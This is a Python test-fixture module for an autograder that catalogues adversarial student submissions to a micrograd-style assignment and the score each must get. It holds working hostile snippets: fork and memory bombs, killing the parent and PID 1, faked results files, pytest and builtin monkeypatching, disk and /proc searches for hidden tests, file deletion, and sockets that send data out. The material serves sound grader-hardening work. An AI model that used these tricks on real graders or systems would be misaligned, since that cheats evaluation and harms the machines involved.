"""The attack catalogue: submissions that try to raise their score, break the grader or harm
the machine, each with the score it must get.

An attack starts from the model solution (honest score: full marks) or from the released stubs
(honest score: 0), and adds code at import time (`prelude`), in place of relu's `_backward`
body (`sabotage`: relu is not used by training, so only the relu part may be lost), in place of
every blank body of the stubs (`every_blank`), or as extra files. `lost` names the parts that
must score 0; every other part must keep its honest points. Text like __CANARY__ or __PORT__ is
filled in by the test for each run.
"""
import textwrap
from dataclasses import dataclass, field

ALL = "all"
RELU_BODY = "            self.grad += (1.0 if self.data > 0 else 0.0) * out.grad\n"
BLANK = "# YOUR CODE HERE\n{indent}raise NotImplementedError()"


@dataclass(frozen=True)
class Attack:
    name: str
    base: str  # "solution" or "stub"
    lost: object  # ALL, or a frozenset of part ids
    prelude: str = ""
    sabotage: str = ""
    every_blank: str = ""
    files: dict = field(default_factory=dict)
    slow: bool = False  # ends by a timeout
    edit: object = None  # a function applied to engine.py's text, after the rest

    def engine(self, solution_text, stub_text, context):
        text = solution_text if self.base == "solution" else stub_text
        if self.sabotage:
            assert text.count(RELU_BODY) == 1
            text = text.replace(RELU_BODY, textwrap.indent(textwrap.dedent(self.sabotage).strip() + "\n", " " * 12))
        if self.every_blank:
            for indent in (" " * 12, " " * 8):
                code = textwrap.indent(textwrap.dedent(self.every_blank).strip(), indent).lstrip()
                text = text.replace(BLANK.format(indent=indent), code)
        if self.prelude:
            text = textwrap.dedent(self.prelude).strip() + "\n\n" + text
        if self.edit:
            text = self.edit(text)
        return fill(text, context)


def fill(text, context):
    for key, value in context.items():
        text = text.replace(f"__{key}__", str(value))
    return text


def sabotage(name, code, slow=False):
    """A correct solution whose relu _backward runs `code`: it may lose relu and nothing else."""
    return Attack(name, "solution", frozenset({"relu"}), sabotage=code, slow=slow)


def at_import(name, code, base="solution", lost=ALL, slow=False):
    return Attack(name, base, lost, prelude=code, slow=slow)


ESCAPE_SECRETS = r'''
import os, sys
def find_secrets():
    found = []
    for top in ("/", ):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            for f in files:
                path = os.path.join(root, f)
                if f == "engine.py" and os.path.abspath(root) != os.path.abspath("."):
                    found.append(path)
                if "micrograd_reference" in path or ("hidden" in path and f.startswith("test_")) or f == "rubric.toml":
                    found.append(path)
            if len(found) > 20:
                return found
    return found
SECRETS = find_secrets()
for module in ("micrograd_reference", "autograder", "autograder.hidden.scenarios"):
    try:
        __import__(module)
        SECRETS.append("imported " + module)
    except ImportError:
        pass
'''

ATTACKS = [
    # -- exiting early, at import and inside a part
    at_import("sys.exit at import", "import sys\nsys.exit(0)"),
    at_import("os._exit at import", "import os\nos._exit(0)"),
    at_import("os.abort at import", "import os\nos.abort()"),
    at_import("KeyboardInterrupt at import", "raise KeyboardInterrupt"),
    sabotage("SystemExit inside a part", "raise SystemExit(0)"),
    sabotage("KeyboardInterrupt inside a part", "raise KeyboardInterrupt"),
    sabotage("os._exit inside a part", "import os\nos._exit(0)"),
    sabotage("os.abort inside a part", "import os\nos.abort()"),
    # -- endless loops, recursion, memory, processes
    at_import("endless loop at import", "while True:\n    pass", slow=True),
    sabotage("endless loop inside a part", "while True:\n    pass", slow=True),
    at_import("deep recursion at import", "def down(n):\n    return down(n + 1)\ndown(0)"),
    sabotage("C stack overflow inside a part",
             "import sys\nsys.setrecursionlimit(10 ** 8)\ndef down(n):\n    return down(n + 1) + 1\ndown(0)"),
    at_import("memory bomb at import", "hog = bytearray(50 * 2 ** 30)"),
    sabotage("memory bomb inside a part", "hog = [0] * (10 ** 10)"),
    at_import("fork bomb at import",
              "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", slow=True),
    sabotage("fork bomb inside a part",
             "import os\nfor _ in range(10000):\n    try:\n        os.fork()\n    except OSError:\n        pass\nself.grad += 1"),
    at_import("daemon that outlives the worker", """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    time.sleep(0.05)
            os._exit(0)
        """, lost=frozenset()),
    # -- signals and time
    sabotage("ignores and blocks signals, then loops", """
        import signal
        for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU, signal.SIGUSR1):
            signal.signal(s, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
        while True:
            pass
        """, slow=True),
    sabotage("freezes time, then loops", """
        import time
        time.time = time.monotonic = time.perf_counter = lambda: 0.0
        time.sleep = lambda s: None
        while True:
            pass
        """, slow=True),
    # -- floods
    at_import("100 MB of output at import", """
        import os, sys
        chunk = "x" * 2 ** 20 + "\\n"
        for _ in range(50):
            sys.stdout.write(chunk)
            os.write(2, chunk.encode())
        """, lost=frozenset()),
    sabotage("endless output inside a part", 'while True:\n    print("x" * 10 ** 6)', slow=True),
    sabotage("giant exception message", 'raise ValueError("x" * 10 ** 8)'),
    # -- crashes
    sabotage("segfault through ctypes", "import ctypes\nctypes.string_at(0)"),
    at_import("segfault at import", "import ctypes\nctypes.string_at(0)"),
    # -- fake results
    at_import("prints and writes fake results", """
        import json, os
        fake = json.dumps({"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 10, "status": "passed"}]})
        print(fake)
        for folder in (".", "..", "../..", "/autograder/results", "/tmp"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, "results.json"), "w") as f:
                    f.write(fake)
            except OSError:
                pass
        """, base="stub"),
    # -- monkeypatching and look-alike modules
    at_import("monkeypatches builtins and math", """
        import builtins, math
        builtins.abs = lambda x: 0
        builtins.isinstance = lambda *args: True
        math.isclose = lambda *args, **kwargs: True
        math.isfinite = lambda x: True
        math.isnan = lambda x: False
        """, base="stub"),
    Attack("look-alike modules in the submission", "stub", ALL, files={
        "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                       "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n",
        "pytest.py": "def main(*a, **k):\n    return 0\n",
        "hypothesis.py": "given = lambda *a, **k: (lambda f: f)\n",
        "sitecustomize.py": "import builtins\nbuiltins.abs = lambda x: 0\n",
        "usercustomize.py": "import builtins\nbuiltins.abs = lambda x: 0\n",
        "json.py": "def dumps(*a, **k):\n    return '{}'\nloads = dumps\n",
        "micrograd_reference.py": "raise SystemExit\n",
        "autograder/__init__.py": "SCORE = 10\n",
        "autograder/hidden/checks.py": "def close(*a, **k):\n    return True\n",
        "lesson.py": "def train(*a, **k):\n    return [0.0] * 50\n",
    }),
    at_import("patches the worker and stubs pytest/hypothesis", """
        import sys, types
        for name in ("pytest", "hypothesis", "autograder", "autograder.hidden.checks"):
            sys.modules[name] = types.ModuleType(name)
        main = sys.modules.get("__main__")
        if main is not None and hasattr(main, "number"):
            main.number = lambda x: 0.0
        """, base="stub"),
    # -- wrong kinds of numbers
    Attack("objects equal to everything", "stub", ALL, every_blank="""
        class Anything(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __sub__(self, other): return Anything(0.0)
            def __rsub__(self, other): return Anything(0.0)
            def __abs__(self): return Anything(0.0)
            def __lt__(self, other): return True
            def __le__(self, other): return True
            __hash__ = float.__hash__
        for v in [self, *getattr(self, "_prev", ())]:
            v.grad = Anything(1.0)
        """),
    Attack("NaN and infinite gradients", "stub", ALL, every_blank="""
        for v in [self, *getattr(self, "_prev", ())]:
            v.grad = float("nan") if id(v) % 2 else float("inf")
        """),
    Attack("walks gc and stack frames for expected values", "stub", ALL, every_blank="""
        import gc, sys
        found = []
        frame = sys._getframe()
        while frame is not None:
            found += [v for k, v in frame.f_locals.items() if type(v) is float and "expect" in k]
            frame = frame.f_back
        found += [o for o in gc.get_objects() if isinstance(o, dict) and "expected" in o][:1]
        for v in [self, *getattr(self, "_prev", ())]:
            v.grad = found[0] if found and type(found[0]) is float else 0.5
        """),
    # -- secrets, other submissions, network, files
    at_import("searches the disk for the reference, solutions and hidden tests",
              ESCAPE_SECRETS + "\nif SECRETS:\n    raise RuntimeError('FOUND ' + repr(SECRETS))\n", base="stub"),
    at_import("imports the solution it found on disk", ESCAPE_SECRETS + """
        for path in SECRETS:
            if path.endswith("engine.py") and "solutions" in path:
                source = open(path).read()
                exec(compile(source, path, "exec"), globals())
                break
        """, base="stub"),
    at_import("reads the grader's memory through /proc", """
        import os
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
                    if b"pytest" in cmdline or b"autograder" in cmdline:
                        raise RuntimeError("FOUND GRADER " + pid)
                except OSError:
                    pass
        """, base="stub"),
    at_import("opens network connections", """
        import socket
        for family, address in ((socket.AF_INET, ("127.0.0.1", __PORT__)), (socket.AF_INET, ("10.0.2.2", __PORT__)),
                                (socket.AF_INET, ("1.1.1.1", 53))):
            try:
                socket.create_connection(address, timeout=1).sendall(b"LEAK")
            except OSError:
                pass
        try:
            socket.getaddrinfo("pypi.org", 443)
        except OSError:
            pass
        """, base="stub"),
    at_import("writes and deletes files outside its folder", """
        import glob, os, shutil
        for path in glob.glob("/tmp/autograder-canary-*/*") + ["__CANARY__"]:
            try:
                open(path, "w").write("overwritten")
            except OSError:
                pass
            try:
                os.remove(path)
            except OSError:
                pass
        for folder in ("/tmp", os.path.expanduser("~"), "/root", "/work", "/var/tmp", "/dev/shm"):
            try:
                open(os.path.join(folder, "pwned-by-a-submission"), "w").write("x")
            except OSError:
                pass
        shutil.rmtree("/tmp/autograder-canary-dir", ignore_errors=True)
        """, base="stub"),
    at_import("fills its disk", """
        import os
        for folder in ("/tmp", "."):
            for n in range(10 ** 4):
                try:
                    with open(os.path.join(folder, f"fill{n}"), "wb") as f:
                        f.write(b"x" * 2 ** 20 * 8)
                except OSError:
                    break
        """, lost=frozenset()),
    # -- the protocol itself
    at_import("forges replies on the worker's channel", """
        import json, os
        forged = "".join(json.dumps({"v": 1, "id": i, "ok": True, "value": {"out": 0.0, "leaf_grads": [1.0, 1.0], "changed": True}}) + "\\n" for i in range(1, 200))
        for fd in range(3, 20):
            try:
                os.write(fd, forged.encode())
            except OSError:
                pass
        """, base="stub"),
    at_import("floods the worker's channel", """
        import os
        for fd in range(3, 20):
            try:
                os.write(fd, b"[" * (10 * 2 ** 20))
            except OSError:
                pass
        """, base="stub"),
    sabotage("reads stdin", "input()"),
    sabotage("kills its parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)"),
    # -- not really doing the work
    Attack("estimates derivatives by finite differences", "solution", frozenset({"pow", "tanh", "exp"}), prelude="""
        import math
        def slope(f, x, h=1e-5):
            return (f(x + h) - f(x - h)) / (2 * h)
        """, edit=lambda text: finite_difference_edits(text)),
    at_import("imports an autodiff library", "import torch\nimport jax\nimport sympy"),
    at_import("uses sympy when it can", """
        try:
            import sympy
        except ImportError:
            sympy = None
        """, base="stub"),
]


def finite_difference_edits(text):
    """The solution with pow, tanh and exp differentiated numerically (used by that attack)."""
    replacements = {
        "            self.grad += other * self.data ** (other - 1) * out.grad\n":
            "            self.grad += slope(lambda x: x ** other, self.data) * out.grad\n",
        "            self.grad += (1 - t ** 2) * out.grad\n":
            "            self.grad += slope(math.tanh, self.data) * out.grad\n",
        "            self.grad += out.data * out.grad\n":
            "            self.grad += slope(math.exp, self.data) * out.grad\n",
    }
    for old, new in replacements.items():
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    return text
